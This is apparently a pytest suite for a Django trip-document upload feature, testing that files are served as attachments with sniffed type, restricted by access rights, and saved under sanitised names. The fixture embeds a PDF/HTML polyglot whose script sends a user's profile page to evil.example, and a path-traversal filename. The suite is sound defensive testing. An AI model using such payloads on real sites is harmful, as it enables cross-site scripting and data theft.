"""A trip's documents as an adversary uploads them: whatever follows the first bytes is never
shown from this site, and only those who may see the trip get the file."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from cuakhau.conftest import PASSWORD, cassava_line, declaration
from cuakhau.trips import services

pytestmark = pytest.mark.django_db

# Passes the "%PDF-" check; a browser shown it inline from our origin would meet the HTML and
# the PDF's own script (an XSS or a phishing form under our address).
POLYGLOT = (
    b"%PDF-1.7\n<html><body><script>fetch('/profile/').then(r=>r.text())"
    b".then(t=>navigator.sendBeacon('https://evil.example/',t))</script></body></html>\n"
    b"1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n"
    b"%%EOF"
)


def login(user) -> Client:
    client = Client()
    assert client.login(username=user.username, password=PASSWORD)
    return client


@pytest.fixture
def uploaded(enterprise, mlt):
    # Submitted: the gate's officers read it (a draft is its enterprise's alone).
    trip = services.save_and_submit(enterprise, None, declaration())
    client = login(enterprise)
    file = SimpleUploadedFile("hoa-don.html", POLYGLOT, "text/html")
    response = client.post(f"/trips/{trip.reference}/documents/", {"kind": "invoice", "file": file})
    assert response.status_code == 302
    return client, trip, trip.documents.get()


def test_a_document_is_always_a_download_never_shown_inline(uploaded):
    client, trip, document = uploaded
    served = client.get(f"/trips/{trip.reference}/documents/{document.pk}/")
    assert served.status_code == 200
    assert b"".join(served.streaming_content) == POLYGLOT
    # The type judged from the first bytes, never the uploader's "text/html"…
    assert served["Content-Type"] == "application/pdf"
    # …and not opened in a page of ours whatever it is.
    assert served["Content-Disposition"].startswith("attachment;")
    assert served["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in served["Cache-Control"] and "private" in served["Cache-Control"]


def test_a_document_is_refused_to_whoever_may_not_see_its_trip(
    uploaded, other_enterprise, customs_hng, customs_mlt
):
    _client, trip, document = uploaded
    url = f"/trips/{trip.reference}/documents/{document.pk}/"
    # The gate's own customs reads it; another enterprise and another gate's officers find
    # neither trip nor file.
    assert login(customs_mlt).get(url).status_code == 200
    assert login(other_enterprise).get(url).status_code == 404
    assert login(customs_hng).get(url).status_code == 404
    # Nobody signed in: the login page, no file.
    anonymous = Client().get(url)
    assert anonymous.status_code == 302 and anonymous["Location"].startswith("/login/")
    # The trip's own document under another trip's reference is not found either.
    other_trip = services.create_draft(
        trip.created_by, declaration(cargo_lines=[cassava_line(container_numbers=[])])
    )
    elsewhere = f"/trips/{other_trip.reference}/documents/{document.pk}/"
    assert uploaded[0].get(elsewhere).status_code == 404


def test_uploaded_files_are_not_served_from_the_media_folder(uploaded, settings):
    """Nothing serves MEDIA_ROOT: a document is reached only through its trip's page."""
    _client, _trip, document = uploaded
    path = f"/media/{document.file.name}"
    assert Client().get(path).status_code in (403, 404)


def test_a_document_is_kept_under_a_name_nobody_chose_with_its_contents_extension(uploaded):
    _client, trip, document = uploaded
    kept = document.file.name
    # The uploader's name is what the download offers, never the name on disk, and it ends
    # in what the file is: saved as "hoa-don.html", a PDF would open as a page (or a ".hta"
    # as a program) on the officer's computer.
    assert document.original_name == "hoa-don.html.pdf"
    assert kept.startswith(f"trips/{trip.reference}/") and kept.endswith(".pdf")
    assert "hoa-don" not in kept and ".html" not in kept
    again = services.attach_document(
        trip.created_by, trip, "invoice", SimpleUploadedFile("hoa-don.html", POLYGLOT)
    )
    assert again.file.name != kept  # two uploads of one name never share a file


def test_a_document_is_handed_back_under_a_name_ending_in_what_it_is(uploaded):
    client, trip, document = uploaded
    url = f"/trips/{trip.reference}/documents/{document.pk}/"
    assert 'filename="hoa-don.html.pdf"' in client.get(url)["Content-Disposition"]
    # A document kept before under the sender's own name is handed back the same way.
    type(document).objects.filter(pk=document.pk).update(original_name="photo.exe")
    assert 'filename="photo.exe.pdf"' in client.get(url)["Content-Disposition"]
    # A name past the column keeps its ending; folders and control characters go.
    long = services.attach_document(
        trip.created_by, trip, "invoice", SimpleUploadedFile("A" * 300 + ".pdf", POLYGLOT)
    )
    assert len(long.original_name) == 200 and long.original_name.endswith("A.pdf")
    odd = services.attach_document(
        trip.created_by, trip, "invoice", SimpleUploadedFile("..\\x\x1b[31m.pdf", POLYGLOT)
    )
    assert odd.original_name == "x[31m.pdf"
